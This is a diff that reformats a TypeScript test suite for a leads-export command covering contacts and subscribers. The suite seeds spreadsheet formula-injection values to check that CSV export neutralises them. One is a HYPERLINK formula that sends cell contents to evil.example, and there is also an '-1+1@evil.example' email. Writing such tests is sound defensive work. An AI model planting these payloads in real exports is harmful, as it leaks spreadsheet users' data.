@@ -7,22 +7,45 @@ import { contacts, subscribers } from "../server/db/schema";
 import { BACKENDS, formToken, testConfig } from "../server/testing/support";
 
 const leads = (args: string[], env: Record<string, string>) =>
-  execFileSync(process.execPath, ["--import", "tsx", "scripts/leads.ts", ...args], { env: { ...process.env, ...env }, encoding: "utf8" });
+  execFileSync(process.execPath, ["--import", "tsx", "scripts/leads.ts", ...args], {
+    env: { ...process.env, ...env },
+    encoding: "utf8",
+  });
 
 describe("npm run leads", () => {
   it("exports contacts and confirmed subscribers only, as JSON and CSV, filtered by date", async () => {
     const config = await testConfig("pglite");
     const app = await buildApp(config);
     const post = (url: string, payload: object) =>
-      app.inject({ method: "POST", url, payload: { ...payload, formToken: formToken(url === "/api/contact" ? "contact" : "subscribe") } });
-    expect((await post("/api/contact", { name: "Nadia, \"The\" Client", email: "nadia@example.org", message: "Quote me, with commas, please.", consent: true })).statusCode).toBe(201);
+      app.inject({
+        method: "POST",
+        url,
+        payload: { ...payload, formToken: formToken(url === "/api/contact" ? "contact" : "subscribe") },
+      });
+    expect(
+      (
+        await post("/api/contact", {
+          name: 'Nadia, "The" Client',
+          email: "nadia@example.org",
+          message: "Quote me, with commas, please.",
+          consent: true,
+        })
+      ).statusCode,
+    ).toBe(201);
     await post("/api/subscribe", { email: "confirmed@example.org" });
     await post("/api/subscribe", { email: "pending@example.org" });
-    await app.database.db.update(subscribers).set({ status: "confirmed", confirmedAt: new Date() }).where(eq(subscribers.email, "confirmed@example.org"));
+    await app.database.db
+      .update(subscribers)
+      .set({ status: "confirmed", confirmedAt: new Date() })
+      .where(eq(subscribers.email, "confirmed@example.org"));
     await app.close();
 
     const env = { DATA_DIR: config.dataDir, DATABASE_URL: "" };
-    const rows = JSON.parse(leads(["export", "--format", "json"], env)) as { type: string; email: string; name: string }[];
+    const rows = JSON.parse(leads(["export", "--format", "json"], env)) as {
+      type: string;
+      email: string;
+      name: string;
+    }[];
     expect(rows.map((row) => [row.type, row.email])).toEqual([
       ["contact", "nadia@example.org"],
       ["subscriber", "confirmed@example.org"],
@@ -50,9 +73,19 @@ describe.each(BACKENDS)("npm run leads -- export on %s", (backend) => {
         budget: "\t=1+1",
         message: "\r=1+1",
       },
-      { ...base, name: " =1+1", company: "\n+1", phone: "\uFF1D1+1", service: "Web, mobile", budget: "-", message: "A budget of -5% and =2 is fine" },
+      {
+        ...base,
+        name: " =1+1",
+        company: "\n+1",
+        phone: "\uFF1D1+1",
+        service: "Web, mobile",
+        budget: "-",
+        message: "A budget of -5% and =2 is fine",
+      },
     ]);
-    await database.db.insert(subscribers).values({ email: "-1+1@evil.example", status: "confirmed", confirmedAt: new Date("2026-03-02T10:00:00Z") });
+    await database.db
+      .insert(subscribers)
+      .values({ email: "-1+1@evil.example", status: "confirmed", confirmedAt: new Date("2026-03-02T10:00:00Z") });
     await database.close();
 
     const env = { DATA_DIR: config.dataDir, DATABASE_URL: config.databaseUrl ?? "" };
@@ -67,6 +100,10 @@ describe.each(BACKENDS)("npm run leads -- export on %s", (backend) => {
     );
     // JSON is not opened by spreadsheets: values stay as stored.
     const json = JSON.parse(leads(["export", "--format", "json"], env)) as Record<string, string>[];
-    expect(json[0]).toMatchObject({ name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', budget: "\t=1+1", message: "\r=1+1" });
+    expect(json[0]).toMatchObject({
+      name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+      budget: "\t=1+1",
+      message: "\r=1+1",
+    });
   }, 60_000);
 });
